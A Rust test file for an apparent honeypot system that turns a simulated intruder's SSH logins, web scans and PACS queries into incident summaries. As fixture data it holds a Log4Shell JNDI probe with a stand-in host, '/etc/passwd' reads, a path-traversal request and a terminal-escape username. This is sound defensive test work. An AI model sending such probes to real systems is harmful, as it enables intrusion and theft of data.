use super::*;
use crate::event::{AttackerBytes, Audience, EventId, HttpCredential, Plant, SshAuthMethod, Timestamp, TokenHit};

fn ev(decoy: &str, kind: EventKind, token: Option<TokenHit>) -> Event {
    Event {
        claimed_time: None,
        id: EventId::new(),
        time: Timestamp::from_micros(1_795_883_913_000_000),
        sensor: "ward-7".into(),
        decoy: Some(decoy.into()),
        source: Some("127.0.0.1:40000".parse().expect("an address")),
        destination: None,
        session: None,
        kind,
        token,
    }
}

fn hit(id: &str, kind: TokenKind, label: &str, planted: Option<(&str, &str, &str)>) -> TokenHit {
    let plants = planted.map(|(host, path, note)| Plant {
        host: host.into(),
        path: path.into(),
        note: Some(note.into()),
        template: None,
        created: Timestamp::from_micros(0),
    });
    TokenHit { plants: plants.into_iter().collect(), ..crate::event::hit_fixture(id, kind, label) }
}

fn auth(user: &str, accepted: bool) -> EventKind {
    EventKind::SshAuth {
        method: SshAuthMethod::Password,
        username: AttackerBytes::new(user),
        password: None,
        key_fingerprint: None,
        key_algorithm: None,
        accepted,
        methods_tried: None,
    }
}

fn get(target: &str, tags: &[&str], credential: Option<HttpCredential>) -> EventKind {
    match crate::event::login_request(credential, tags) {
        EventKind::HttpRequest { headers, headers_truncated, user_agent, credential, body_bytes, body_sha256, body, tags, .. } => EventKind::HttpRequest {
            method: AttackerBytes::new("GET"),
            target: AttackerBytes::new(target),
            version: "HTTP/1.1".into(),
            headers,
            headers_truncated,
            user_agent,
            credential,
            body_bytes,
            body_sha256,
            body,
            status: 404,
            tags,
        },
        other => other,
    }
}

fn find(matches: u32) -> EventKind {
    EventKind::DicomCommand { command: "C-FIND".into(), sop_class: None, level: None, keys: vec![], move_destination: None, matches, status: 0 }
}

/// The intruder of issue 22: guesses, a planted password, commands, a scan with a
/// Log4Shell probe, a canary URL, an AWS key, and PACS queries naming a honey patient.
pub fn intruder() -> Vec<Event> {
    let mut out = Vec::new();
    for _ in 0..20 {
        out.push(ev("pacs-ssh", auth("root", false), None));
    }
    let password = hit("tok-ssh1", TokenKind::SshPassword, "backup svc", Some(("pacs-ws-12", "~/.bash_history", "backup svc")));
    out.push(ev("pacs-ssh", auth("svc_ris", true), Some(password)));
    for line in ["id", "uname -a", "cat /etc/passwd", "ls", "exit"] {
        out.push(ev("pacs-ssh", EventKind::SshCommand { line: AttackerBytes::new(line), exec: false }, None));
    }
    for path in ["/", "/admin", "/login", "/wp-login.php", "/.git/config", "/server-status", "/api", "/backup.zip"] {
        out.push(ev("ehr-portal", get(path, &[], None), None));
    }
    out.push(ev("ehr-portal", get("/?q=${jndi:ldap://x/a}", &["exploit"], None), None));
    out.push(ev("ehr-portal", get("/r/c4f1", &[], None), Some(hit("tok-url1", TokenKind::Url, "wiki link", Some(("wiki", "/Radiology", "PACS help page"))))));
    let aws = HttpCredential { scheme: "aws".into(), username: Some(AttackerBytes::new("AKIAEXAMPLE")), secret: None };
    out.push(ev(
        "ehr-portal",
        get("/", &[], Some(aws)),
        Some(hit("tok-aws1", TokenKind::AwsKey, "ci key", Some(("build-01", "~/.aws/credentials", "CI runner")))),
    ));
    for _ in 0..4 {
        out.push(ev("pacs-dicom", find(20), Some(hit("tok-pat1", TokenKind::Patient, "honey patient 1", None))));
    }
    out
}

fn story(events: &[Event]) -> Story {
    let mut s = Story::default();
    for e in events {
        s.absorb(e);
    }
    s
}

#[test]
fn the_intruder_is_told_in_one_sentence_naming_the_token_its_plant_the_login_the_commands_the_scan_and_the_patient() {
    let s = story(&intruder());
    let summary = s.summary("127.0.0.1", Audience::Team);
    assert_eq!(
        summary,
        "127.0.0.1 guessed 20 SSH passwords, logged in to pacs-ssh as svc_ris with SSH password tok-ssh1 (planted in ~/.bash_history on pacs-ws-12: \
         backup svc), ran 5 commands; scanned ehr-portal (11 requests, 9 paths, Log4Shell probe); queried pacs-dicom (4 queries, 80 records answered) \
         including honey patient tok-pat1 (honey patient 1); used canary URL tok-url1 (planted in /Radiology on wiki: PACS help page); used AWS key \
         tok-aws1 (planted in ~/.aws/credentials on build-01: CI runner)."
    );
    assert_eq!(s.title(Audience::Team), "Planted SSH password used: backup svc and 3 more tokens");
}

#[test]
fn the_public_wording_names_no_decoy_token_plant_or_user() {
    let s = story(&intruder());
    let public = format!("{} {}", s.title(Audience::Public), s.summary("127.0.0.1", Audience::Public));
    for internal in ["honey", "pacs-ssh", "ehr-portal", "pacs-dicom", "tok-", "backup svc", "svc_ris", "pacs-ws-12", "bash_history", "wiki", "build-01"] {
        assert!(!public.contains(internal), "{internal} in {public}");
    }
    assert!(public.contains("logged in to an SSH decoy with a planted SSH password") && public.contains("including a planted patient record"), "{public}");
}

#[test]
fn a_story_round_trips_through_json_and_stays_bounded() {
    let mut events = intruder();
    for i in 0..500 {
        events.push(ev(&format!("web-{i}"), get(&format!("/p{i}"), &["exploit"], None), None));
    }
    let s = story(&events);
    let web = s.part(Protocol::Web).expect("a web part");
    assert_eq!((web.decoys.first.len(), web.decoys.more), (4, 500 - 3), "four decoys named, the rest counted");
    assert_eq!(web.breadth, u64::from(MAX_PATHS));
    assert!(s.summary("x", Audience::Team).contains("more than 64 paths"));
    let back: Story = serde_json::from_str(&serde_json::to_string(&s).expect("json")).expect("story");
    assert_eq!(back.summary("x", Audience::Team), s.summary("x", Audience::Team));
}

#[test]
fn table_of_titles() {
    let brute: Vec<Event> = (0..3).map(|_| ev("ssh", auth("root", false), None)).collect();
    let scan: Vec<Event> = (0..5).map(|i| ev("portal", get(&format!("/{i}"), &[], None), None)).collect();
    let probe = vec![ev("portal", get("/../../etc/passwd", &["exploit"], None), None)];
    let dicom = vec![ev("pacs", find(3), None)];
    for (events, want) in [
        (brute, "SSH password guessing on ssh"),
        (scan, "Web scan of portal"),
        (probe, "Path traversal against portal"),
        (dicom, "DICOM queries on pacs"),
        (vec![ev("tcp", EventKind::ConnectionOpened, None)], "Connections"),
    ] {
        assert_eq!(story(&events).title(Audience::Team), want);
    }
}

#[test]
fn hidden_characters_in_names_are_escaped_and_long_names_cut() {
    let s = story(&[ev("ssh", auth(&format!("\u{1b}[2J{}", "a".repeat(300)), true), None)]);
    let summary = s.summary("x", Audience::Team);
    assert!(!summary.contains('\u{1b}') && summary.contains("\\u{1b}") && summary.contains('…'), "{summary}");
}
